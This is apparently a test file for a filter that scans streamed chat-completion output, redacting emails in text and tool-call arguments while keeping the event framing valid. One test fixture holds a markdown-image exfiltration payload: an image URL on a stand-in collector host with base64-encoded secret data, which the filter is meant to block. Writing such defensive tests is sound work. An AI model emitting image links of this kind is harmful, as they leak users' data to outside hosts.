import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { SseProtocolError, SseScan, MAX_EVENT_BYTES } from '../../../src/output/sse-scan.js'
import { responseScan, scanning, VALUES } from './output-fixtures.js'

const head = { id: 'chatcmpl-1', object: 'chat.completion.chunk', created: 1, model: 'm' }
const chunk = (delta: object, finish: string | null = null): string => `data: ${JSON.stringify({ ...head, choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`

function stream (text: string, pieces: number): string {
  let out = chunk({ role: 'assistant', content: '' })
  const size = Math.ceil(text.length / pieces)
  for (let i = 0; i < text.length; i += size) out += chunk({ content: text.slice(i, i + size) })
  return out + chunk({}, 'stop') + 'data: [DONE]\n\n'
}

/** Runs raw SSE bytes through SseScan in network chunks of `size` bytes. */
function run (raw: string, size: number, cfg = scanning()): { frames: string, blocked: string | null } {
  const sse = new SseScan(responseScan(cfg))
  const bytes = Buffer.from(raw)
  let frames = ''
  for (let i = 0; i < bytes.length; i += size) {
    const out = sse.push(bytes.subarray(i, i + size))
    frames += out.frames
    if (out.blocked !== null) return { frames, blocked: out.blocked.policyId }
  }
  const out = sse.end()
  return { frames: frames + out.frames, blocked: out.blocked?.policyId ?? null }
}

/** What an SDK would assemble: the concatenated content deltas, and every event parsed. */
function assemble (frames: string): { content: string, events: unknown[], done: boolean } {
  const events: unknown[] = []
  let content = ''
  let done = false
  for (const block of frames.split('\n\n')) {
    if (block === '') continue
    assert.ok(block.startsWith('data: '), `not an SSE data event: ${block.slice(0, 40)}`)
    const data = block.slice(6)
    if (data === '[DONE]') { done = true; continue }
    const e = JSON.parse(data) as { choices?: { delta?: { content?: string } }[] }
    events.push(e)
    content += e.choices?.[0]?.delta?.content ?? ''
  }
  return { content, events, done }
}

describe('SseScan keeps valid chunk framing while it rewrites content', () => {
  const text = `Your account manager is reachable at ${VALUES.email}; ${'the quarterly numbers look fine. '.repeat(12)}`

  for (const size of [1, 7, 64, 100_000]) {
    it(`network chunks of ${size} bytes: redacted content, every event JSON, [DONE] last`, () => {
      const out = run(stream(text, 9), size)
      assert.equal(out.blocked, null)
      const a = assemble(out.frames)
      assert.equal(a.content, text.replace(VALUES.email, '[REDACTED:email]'))
      assert.ok(a.done)
      assert.ok(out.frames.endsWith('data: [DONE]\n\n'))
    })
  }

  it('releases held text in the finish chunk, before [DONE]', () => {
    const out = run(stream('short answer', 3), 1000)
    const events = assemble(out.frames).events as { choices: { delta: { content?: string }, finish_reason: string | null }[] }[]
    const finish = events.find(e => e.choices[0]?.finish_reason === 'stop')
    assert.equal(finish?.choices[0]?.delta.content, 'short answer')
  })

  it('flushes held text in a chunk of its own when the provider sends no finish chunk', () => {
    const raw = chunk({ role: 'assistant', content: '' }) + chunk({ content: 'cut short' })
    const a = assemble(run(raw, 1000).frames)
    assert.equal(a.content, 'cut short')
  })

  it('blocks a streamed exfiltration image and sends none of the URL', () => {
    const url = 'https://img.collector-cdn.net/p.png?d=c2VjcmV0IHN0dWZmIGhlcmUgYW5kIG1vcmU='
    const out = run(stream(`${'Some intro text. '.repeat(20)}![x](${url}) bye`, 30), 16)
    assert.match(out.blocked ?? '', /^exfiltration\./)
    assert.ok(!out.frames.includes('collector-cdn'))
  })

  it('scans tool-call arguments and keeps them parseable', () => {
    const args = JSON.stringify({ to: VALUES.email, body: 'See you tomorrow at the usual place, and bring the signed contract.' })
    let raw = chunk({ role: 'assistant', content: null, tool_calls: [{ index: 0, id: 'call_1', type: 'function', function: { name: 'send_mail', arguments: '' } }] })
    for (let i = 0; i < args.length; i += 5) raw += chunk({ tool_calls: [{ index: 0, function: { arguments: args.slice(i, i + 5) } }] })
    raw += chunk({}, 'tool_calls') + 'data: [DONE]\n\n'
    const out = run(raw, 50)
    let assembled = ''
    for (const e of assemble(out.frames).events as { choices: { delta: { tool_calls?: { function?: { arguments?: string } }[] } }[] }[]) {
      for (const tc of e.choices[0]?.delta.tool_calls ?? []) assembled += tc.function?.arguments ?? ''
    }
    assert.deepEqual(JSON.parse(assembled), { to: '[REDACTED:email]', body: 'See you tomorrow at the usual place, and bring the signed contract.' })
  })

  it('passes comments and non-JSON events through untouched', () => {
    const raw = ': keep-alive\n\n' + 'event: ping\ndata: hello\n\n' + 'data: [DONE]\n\n'
    assert.equal(run(raw, 1000).frames, raw)
  })

  it('keeps multi-byte characters split across network chunks intact', () => {
    const text = 'Grüße aus Zürich — 東京 and 😀 too. '.repeat(10)
    const a = assemble(run(stream(text, 4), 3).frames)
    assert.equal(a.content, text)
  })

  it('refuses an event larger than the bound instead of buffering without limit', () => {
    const sse = new SseScan(responseScan())
    assert.throws(() => sse.push(Buffer.from('data: ' + 'x'.repeat(MAX_EVENT_BYTES + 1))), SseProtocolError)
  })
})
